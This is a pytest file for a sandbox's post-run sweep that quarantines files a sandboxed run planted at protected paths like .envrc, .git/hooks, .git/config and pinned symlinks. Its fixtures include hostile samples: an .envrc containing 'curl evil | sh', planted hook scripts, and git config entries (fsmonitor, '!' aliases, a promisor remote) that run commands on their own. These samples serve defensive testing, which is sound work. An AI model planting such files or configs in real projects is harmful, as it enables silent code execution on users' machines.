"""After a run, what it made at absent protected paths is renamed aside, never followed through a link; pinned links are put back."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from stockade.bwrap.after.sweep import LINK_PIN, sweep_unguarded

SESSION = "S1"


def aside(path: Path) -> Path:
    return path.with_name(f"{path.name}.stockade-quarantine-{SESSION}")


@pytest.fixture
def root(tmp_path: Path) -> Path:
    """The writable root (the project)."""
    folder = tmp_path / "project"
    folder.mkdir()
    return folder


def sweep(root: Path, *entries: tuple[Path, Path | str]) -> list[tuple[str, str]]:
    return sweep_unguarded([(str(path), str(mark)) for path, mark in entries], SESSION, [str(root)])


def test_the_pin_prefix() -> None:
    assert LINK_PIN == "symlink:"


def test_nothing_made_means_nothing_moved(root: Path) -> None:
    hooks = root / ".git" / "hooks"
    assert sweep(root, (hooks, root / ".git"), (root / ".envrc", root / ".envrc")) == []
    assert list(root.iterdir()) == []


def test_an_absent_file_the_run_made_is_moved_aside(root: Path) -> None:
    envrc = root / ".envrc"
    envrc.write_text("curl evil | sh\n")
    assert sweep(root, (envrc, envrc)) == [(str(envrc), str(aside(envrc)))]
    assert not envrc.exists() and aside(envrc).read_text() == "curl evil | sh\n"  # renamed, never deleted


def test_the_protected_path_is_moved_not_the_folders_made_above_it(root: Path) -> None:
    hooks = root / ".git" / "hooks"
    hooks.mkdir(parents=True)
    (hooks / "pre-commit").write_text("#!/bin/sh\n")
    (root / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    assert sweep(root, (hooks, root / ".git")) == [(str(hooks), str(aside(hooks)))]
    assert (aside(hooks) / "pre-commit").exists() and (root / ".git" / "HEAD").exists()


def test_folders_above_without_the_path_are_left(root: Path) -> None:
    (root / ".git").mkdir()
    assert sweep(root, (root / ".git" / "hooks", root / ".git")) == []
    assert (root / ".git").is_dir()


def test_a_link_planted_on_the_way_is_itself_moved_and_never_followed(root: Path, tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    (outside / "hooks").mkdir(parents=True)
    (outside / "hooks" / "keep").write_text("the user's\n")
    (root / ".git").symlink_to(outside)
    assert sweep(root, (root / ".git" / "hooks", root / ".git")) == [(str(root / ".git"), str(aside(root / ".git")))]
    assert aside(root / ".git").is_symlink() and (outside / "hooks" / "keep").read_text() == "the user's\n"


def test_a_link_at_the_path_itself_is_moved(root: Path, tmp_path: Path) -> None:
    target = tmp_path / "target"
    target.write_text("x")
    envrc = root / ".envrc"
    envrc.symlink_to(target)
    assert sweep(root, (envrc, envrc)) == [(str(envrc), str(aside(envrc)))]
    assert aside(envrc).is_symlink() and target.read_text() == "x"


def test_a_dangling_link_is_moved_too(root: Path) -> None:
    envrc = root / ".envrc"
    envrc.symlink_to(root / "nowhere")
    assert sweep(root, (envrc, envrc)) == [(str(envrc), str(aside(envrc)))]


def test_a_file_where_a_folder_should_be_is_moved(root: Path) -> None:
    (root / ".git").write_text("gitdir: /elsewhere\n")
    assert sweep(root, (root / ".git" / "hooks", root / ".git")) == [(str(root / ".git"), str(aside(root / ".git")))]


def test_one_entry_moves_once_for_two_paths_below_it(root: Path, tmp_path: Path) -> None:
    (root / ".git").symlink_to(tmp_path)
    moved = sweep(root, (root / ".git" / "hooks", root / ".git"), (root / ".git" / "config", root / ".git"))
    assert moved == [(str(root / ".git"), str(aside(root / ".git")))]


def test_a_second_move_of_one_name_in_a_session_keeps_the_first(root: Path) -> None:
    envrc = root / ".envrc"
    envrc.write_text("first")
    sweep(root, (envrc, envrc))
    envrc.write_text("second")
    assert sweep(root, (envrc, envrc)) == [(str(envrc), str(envrc) + f".stockade-quarantine-{SESSION}-2")]
    assert aside(envrc).read_text() == "first"


def test_nothing_outside_the_writable_roots_is_moved(root: Path, tmp_path: Path) -> None:
    elsewhere = tmp_path / "elsewhere" / ".envrc"
    elsewhere.parent.mkdir()
    elsewhere.write_text("x")
    assert sweep(root, (elsewhere, elsewhere)) == []
    assert elsewhere.exists()


def test_a_folder_the_run_locked_is_moved_whole(root: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """What is inside a folder without search permission cannot be checked: the folder goes aside."""
    locked = root / ".git"
    (locked / "hooks").mkdir(parents=True)
    real_lstat = os.lstat

    def lstat(path: object, *args: object, **kwargs: object) -> os.stat_result:
        if str(path) == str(locked / "hooks"):
            raise PermissionError(13, "Permission denied", str(path))
        return real_lstat(path, *args, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr(os, "lstat", lstat)
    assert sweep(root, (locked / "hooks", locked)) == [(str(locked), str(aside(locked)))]


def test_a_locked_writable_root_is_not_moved(root: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    real_lstat = os.lstat

    def lstat(path: object, *args: object, **kwargs: object) -> os.stat_result:
        if str(path) == str(root / ".envrc"):
            raise PermissionError(13, "Permission denied", str(path))
        return real_lstat(path, *args, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr(os, "lstat", lstat)
    assert sweep(root, (root / ".envrc", root / ".envrc")) == []
    assert root.is_dir()


# -- pinned links --------------------------------------------------------------------------------


def test_a_pinned_link_left_alone_stays(root: Path, tmp_path: Path) -> None:
    link = root / ".claude"
    link.symlink_to(tmp_path / "dotfiles")
    assert sweep(root, (link, LINK_PIN + str(tmp_path / "dotfiles"))) == []
    assert os.readlink(link) == str(tmp_path / "dotfiles")


def test_a_pinned_link_the_run_replaced_is_moved_aside_and_put_back(root: Path, tmp_path: Path) -> None:
    link = root / ".claude"
    link.write_text("planted")
    assert sweep(root, (link, LINK_PIN + "../dotfiles")) == [(str(link), str(aside(link)))]
    assert os.readlink(link) == "../dotfiles" and aside(link).read_text() == "planted"


def test_a_pinned_link_the_run_pointed_elsewhere_is_put_back(root: Path, tmp_path: Path) -> None:
    link = root / ".claude"
    link.symlink_to("/etc")
    assert sweep(root, (link, LINK_PIN + "dotfiles")) == [(str(link), str(aside(link)))]
    assert os.readlink(link) == "dotfiles" and os.readlink(aside(link)) == "/etc"


def test_a_pinned_link_the_run_removed_is_put_back(root: Path) -> None:
    link = root / ".claude"
    assert sweep(root, (link, LINK_PIN + "dotfiles")) == []
    assert os.readlink(link) == "dotfiles"


def test_a_pin_in_a_folder_the_run_swapped_for_a_link_gets_nothing(root: Path, tmp_path: Path) -> None:
    (root / "sub").symlink_to(tmp_path)
    link = root / "sub" / ".claude"
    sweep(root, (link, LINK_PIN + "dotfiles"))
    assert not os.path.lexists(tmp_path / ".claude")  # never made through the link


def _git_init(root: Path, config: str = "[core]\n\trepositoryformatversion = 0\n\tbare = false\n") -> Path:
    """What `git init` leaves: HEAD, objects, refs, an inert config, git's sample hooks."""
    git_dir = root / ".git"
    for folder in ("objects", "refs", "hooks"):
        (git_dir / folder).mkdir(parents=True)
    (git_dir / "HEAD").write_text("ref: refs/heads/main\n")
    (git_dir / "config").write_text(config)
    (git_dir / "hooks" / "pre-commit.sample").write_text("#!/bin/sh\n")
    return git_dir


def test_the_repository_a_first_git_init_makes_stays(root: Path) -> None:
    git_dir = _git_init(root)
    assert sweep(root, (git_dir / "config", git_dir), (git_dir / "hooks", git_dir)) == []
    assert (git_dir / "config").exists() and (git_dir / "hooks" / "pre-commit.sample").exists()


@pytest.mark.parametrize(
    "config",
    [
        "[core]\n\tfsmonitor = touch x\n",
        "[alias]\n\tst = !touch x\n",
        "[include]\n\tpath = ../x\n",
        "[core]\n\tworktree = ../sub\n",  # moves where a relative core.hooksPath of the user's points
        "[core]\n\tbare = true\n",  # hooks from inside .git, the same way
        '[remote "o"]\n\turl = ssh://127.0.0.1:9/x\n\tpromisor = true\n',  # a host `git log -p` fetches from there
    ],
)
def test_a_config_that_runs_something_is_moved_aside(root: Path, config: str) -> None:
    git_dir = _git_init(root, config)
    assert sweep(root, (git_dir / "config", git_dir), (git_dir / "hooks", git_dir)) == [(str(git_dir / "config"), str(aside(git_dir / "config")))]


@pytest.mark.parametrize("planted", ["pre-commit", "link.sample"])
def test_hooks_beside_the_samples_are_moved_aside_whole(root: Path, planted: str) -> None:
    git_dir = _git_init(root)
    target = git_dir / "hooks" / planted
    if planted.endswith(".sample"):
        target.symlink_to("/bin/true")  # a link named like a sample: not git's own file
    else:
        target.write_text("#!/bin/sh\ntouch x\n")
    assert sweep(root, (git_dir / "hooks", git_dir)) == [(str(git_dir / "hooks"), str(aside(git_dir / "hooks")))]


def test_a_config_in_a_folder_that_is_no_git_dir_is_moved_as_before(root: Path) -> None:
    (root / ".git").mkdir()
    (root / ".git" / "config").write_text("[core]\n\tbare = false\n")
    assert sweep(root, (root / ".git" / "config", root / ".git")) == [(str(root / ".git" / "config"), str(aside(root / ".git" / "config")))]
